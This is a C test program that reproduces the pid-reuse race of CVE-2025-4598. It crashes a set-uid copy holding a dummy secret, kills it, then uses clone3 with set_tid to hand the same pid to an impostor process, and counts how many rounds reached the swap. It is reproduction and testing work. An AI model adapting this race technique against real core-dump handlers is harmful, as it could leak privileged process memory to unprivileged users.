/* SPDX-License-Identifier: Apache-2.0 */
/* The race for a pid (CVE-2025-4598): pid-race VICTIM IMPOSTOR ROUNDS USEC. VICTIM is a set-uid
 * copy of this program; in each round uid 65534 runs it, it crashes with a secret of root's in
 * memory, is killed at a random moment of the next USEC microseconds while its handler reads, and
 * the same pid is given at once to IMPOSTOR, an ordinary program of uid 65534 (another copy).
 * Attackers have to be lucky for that; root may choose the pid (clone3(2), set_tid). Prints how
 * many rounds came to the exchange. What the handler made of them is the caller's to look at. */
#include <errno.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define NOBODY 65534

/* Not as text in this file: an impostor's memory shows the file. */
static void make_secret(volatile char *to, size_t n)
{
    for (size_t i = 0; i < n; i++)
        to[i] = "ebe`jpjn"[i % 8] ^ 1; /* "dcdakqko" over and over */
}

static int be_victim(void)
{
    volatile char secret[4096];
    const struct rlimit all = {RLIM_INFINITY, RLIM_INFINITY};

    setrlimit(RLIMIT_CORE, &all);
    make_secret(secret, sizeof(secret));
    raise(SIGSEGV);
    return secret[0];
}

static int be_impostor(void)
{
    usleep(4000);
    return 0;
}

static void become_nobody(char *program, const char *role)
{
    char *const argv[] = {program, (char *)(uintptr_t)role, NULL};

    if (setresgid(NOBODY, NOBODY, NOBODY) == 0 && setresuid(NOBODY, NOBODY, NOBODY) == 0)
        execv(program, argv);
    _exit(127);
}

static pid_t start_with_pid(pid_t pid)
{
    struct clone_args args = {
        .exit_signal = SIGCHLD, .set_tid = (uintptr_t)&pid, .set_tid_size = 1};

    return (pid_t)syscall(SYS_clone3, &args, sizeof(args));
}

/* 1 when the impostor got the pid. */
static int one_round(char *victim, char *impostor, unsigned usec)
{
    pid_t pid = fork(), other;

    if (pid == 0)
        become_nobody(victim, "victim");
    usleep((useconds_t)random() % usec);
    kill(pid, SIGKILL);
    waitpid(pid, NULL, 0);
    other = start_with_pid(pid);
    if (other == 0)
        become_nobody(impostor, "impostor");
    if (other < 0)
        return 0;
    waitpid(other, NULL, 0);
    return 1;
}

int main(int argc, char **argv)
{
    unsigned rounds, taken = 0;

    if (argc == 2 && strcmp(argv[1], "victim") == 0)
        return be_victim();
    if (argc == 2 && strcmp(argv[1], "impostor") == 0)
        return be_impostor();
    if (argc != 5)
        return 2;
    rounds = (unsigned)strtoul(argv[3], NULL, 10);
    srandom((unsigned)time(NULL));
    for (unsigned i = 0; i < rounds; i++)
        taken += (unsigned)one_round(argv[1], argv[2], (unsigned)strtoul(argv[4], NULL, 10));
    printf("%u\n", taken);
    return 0;
}
